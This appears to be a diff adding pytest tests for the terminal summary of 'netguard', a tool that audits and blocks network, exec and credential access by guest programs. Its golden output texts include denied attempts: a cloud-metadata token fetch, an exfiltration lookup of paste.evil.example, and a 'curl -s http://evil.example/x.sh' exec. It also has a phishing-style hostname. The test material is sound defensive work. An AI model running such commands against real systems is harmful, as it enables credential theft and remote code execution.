@@ -1,0 +1,177 @@
+"""The end of a run on one screen: golden texts for two runs, the bounds, and guests that write what they like."""
+
+from __future__ import annotations
+
+import random
+import tracemalloc
+
+import pytest
+
+from netguard.views.summary import ROOM, ROWS, Tally
+from netguard.views.text import columns_of
+from tests.views.runs import AUDIT_RUN, DRY_RUN, Record, connect, dns, hostile_record, line, started
+
+TRAIL = "/home/ci/.local/state/netguard/01JD/trail.jsonl"
+
+AUDIT_80 = """\
+verdict  kind     destination               count  rule         asked by
+denied   connect  169.254.169.254:80            1  metadata     agent.py:41 fet…
+denied   dns      paste.evil.example            1  default      agent.py:55 Exf…
+denied   exec     curl -s http://evil.exa…      1  no-shell     agent.py:63
+logged   connect  api.openai.com:443            3  audit        agent.py:12 ask
+logged   exec     git clone ...                 2  audit        agent.py:60 sou…
+logged   dns      pypi.org                      1  audit        agent.py:8 index
+logged   connect  pypi.org:443                  1  audit        agent.py:8 index
+logged   dns      api.openai.com                1  audit        agent.py:12 ask
+logged   listen   127.0.0.1:8000                1  audit        agent.py:70 ser…
+allowed           (no line of its own)      1,240  own-sockets
+allowed           (no line of its own)          3  pypi
+netguard: 1,255 decisions: 9 logged, 3 denied, 1,243 allowed silently
+trail: /home/ci/.local/state/netguard/01JD/trail.jsonl
+check: netguard verify /home/ci/.local/state/netguard/01JD/trail.jsonl
+"""
+
+AUDIT_120 = """\
+verdict  kind     destination                              count  rule         asked by
+denied   connect  169.254.169.254:80                           1  metadata     agent.py:41 fetch_token
+denied   dns      paste.evil.example                           1  default      agent.py:55 Exfil.post
+denied   exec     curl -s http://evil.example/x.sh             1  no-shell     agent.py:63
+logged   connect  api.openai.com:443 (162.159.140.245 +1)      3  audit        agent.py:12 ask
+logged   exec     git clone ...                                2  audit        agent.py:60 sources
+logged   dns      pypi.org                                     1  audit        agent.py:8 index
+logged   connect  pypi.org:443 (151.101.0.223)                 1  audit        agent.py:8 index
+logged   dns      api.openai.com                               1  audit        agent.py:12 ask
+logged   listen   127.0.0.1:8000                               1  audit        agent.py:70 serve
+allowed           (no line of its own)                     1,240  own-sockets
+allowed           (no line of its own)                         3  pypi
+netguard: 1,255 decisions: 9 logged, 3 denied, 1,243 allowed silently
+trail: /home/ci/.local/state/netguard/01JD/trail.jsonl
+check: netguard verify /home/ci/.local/state/netguard/01JD/trail.jsonl
+"""
+
+DRY_80 = """\
+netguard: TAMPER: trail.jsonl is 12 bytes longer than netguard made it
+netguard: ALERT: 4 connections that no line of code announced
+verdict     kind     destination                    count  rule     asked by
+would deny  connect  [2001:db8::1]:53/udp               1  default  etl.py:9 ask
+logged      dns      db.corp.example                    1  audit    etl.py:3
+logged      connect  db.corp.example:5432               1  audit    etl.py:3
+netguard: 3 decisions: 2 logged, 1 would have been denied
+dry run: nothing was denied
+"""
+
+
+def tally(records: list[Record]) -> Tally:
+    counted = Tally()
+    for record in records:
+        counted.add(record)
+    return counted
+
+
+def test_summary_at_80_columns() -> None:
+    assert tally(AUDIT_RUN).render(80, False, trail=TRAIL) == AUDIT_80
+
+
+def test_summary_at_120_columns_names_addresses_too() -> None:
+    assert tally(AUDIT_RUN).render(120, False, trail=TRAIL) == AUDIT_120
+
+
+def test_dry_run_says_that_nothing_was_denied_and_tampering_stands_on_top() -> None:
+    assert tally(DRY_RUN).render(80, False) == DRY_80
+
+
+def test_a_dry_run_without_denials_says_so_as_well() -> None:
+    assert "nothing was denied" in Tally(dry_run=True).render(80, False)
+
+
+def test_a_run_that_did_nothing_says_so() -> None:
+    assert Tally().render(80, False) == (
+        "netguard: no decisions: nothing asked for the network, a program or a credential file\n"
+    )
+
+
+@pytest.mark.parametrize("width", [40, 50, 60, 72, 80, 100, 120, 200, 1000])
+@pytest.mark.parametrize("utf8", [True, False])
+def test_no_row_is_wider_than_the_terminal(width: int, utf8: bool) -> None:
+    lines = tally(AUDIT_RUN + DRY_RUN).render(width, False, utf8=utf8).splitlines()
+    table = [row for row in lines if not row.startswith("netguard:")]
+    assert all(columns_of(row) <= width for row in table)
+    assert utf8 is False or any("169.254.169.254:80"[-9:] in row for row in table)
+    assert utf8 or all(row.isascii() for row in lines)
+
+
+def test_colours_only_when_asked_for() -> None:
+    counted = tally(AUDIT_RUN + DRY_RUN)
+    assert "\x1b" not in counted.render(80, False)
+    painted = counted.render(80, True)
+    assert "\x1b[1m\x1b[31mnetguard: TAMPER" in painted
+    assert "\x1b[31mdenied" in painted
+    assert all(row.count("\x1b[0m") <= 1 for row in painted.splitlines())
+    bare = painted
+    for ink in ("\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[31m", "\x1b[32m", "\x1b[33m"):
+        bare = bare.replace(ink, "")
+    assert bare == counted.render(80, False)
+
+
+def test_a_name_keeps_the_end_that_says_whose_it_is() -> None:
+    name = "accounts.google.com.login.secure.session.evil.example"
+    assert "evil.example" in tally([dns(name, "deny")]).render(80, False)
+
+
+def test_more_rows_than_fit_are_folded_and_denials_leave_room_for_the_rest() -> None:
+    noise = [dns(f"n{number}.example", "deny") for number in range(500)]
+    real = [connect("files.example", "192.0.2.9", 443)]
+    lines = tally(noise + real).render(100, False).splitlines()
+    assert len(lines) < ROWS + 6
+    assert any("files.example:443" in row for row in lines)
+    assert any("481 more rows, 481 decisions: denied dns" in row for row in lines)
+
+
+def test_frequent_rows_stand_first_within_a_verdict() -> None:
+    text = tally([dns("once.example"), *[dns("often.example")] * 5, started("sh", verdict="deny")]).render(80, False)
+    assert text.index("denied") < text.index("often.example") < text.index("once.example")
+
+
+def test_a_flood_of_one_sort_leaves_room_for_the_others() -> None:
+    counted = tally([dns(f"n{number}.example") for number in range(ROOM + 1000)])
+    counted.add(connect("late.example", "192.0.2.9", 443))
+    assert len(counted.groups) == ROOM + 1
+    assert sum(group.count for group in counted.others.values()) == 1000
+    assert f"{ROOM + 1001:,} decisions: {ROOM + 1001:,} logged" in counted.render(80, False)
+
+
+def test_memory_is_bounded_whatever_the_guest_asks_for() -> None:
+    counted = Tally()
+    long = "x" * 60_000
+    tracemalloc.start()
+    for number in range(8_000):
+        counted.add(line("file", "log", file={"path": f"{number}{long}"}, code={"file": long, "func": long}))
+        counted.add({"kind": "count", "counts": {f"{number}{long}": 1}})
+        counted.add({"kind": "alert", "why": long})
+    used, _ = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert used < 8_000_000
+    assert counted.totals().startswith("16,000 decisions")
+
+
+def test_what_is_no_record_is_counted_as_such() -> None:
+    counted = tally([{}, {"kind": "dns"}, {"kind": "dns", "verdict": "maybe", "dns": {"name": "x"}}, {"kind": []}])
+    assert counted.unreadable == 4
+    assert "4 records could not be read" in counted.render(80, False)
+
+
+def test_the_hint_can_be_pasted_into_a_shell() -> None:
+    last = tally([]).render(80, False, trail="/tmp/it's here/trail.jsonl").splitlines()[-1]
+    assert last == "check: netguard verify '/tmp/it'\\''s here/trail.jsonl'"
+
+
+@pytest.mark.parametrize("seed", range(30))
+def test_hostile_records_never_reach_the_terminal(seed: int) -> None:
+    rng = random.Random(seed)
+    counted = tally([hostile_record(rng) for _ in range(200)])
+    for width in (40, 80, 120):
+        for utf8 in (True, False):
+            text = counted.render(width, False, utf8=utf8)
+            assert all(row.isprintable() for row in text.split("\n"))
+            assert utf8 or text.isascii()
+            assert text.count("\n") < 2 * ROWS + 20
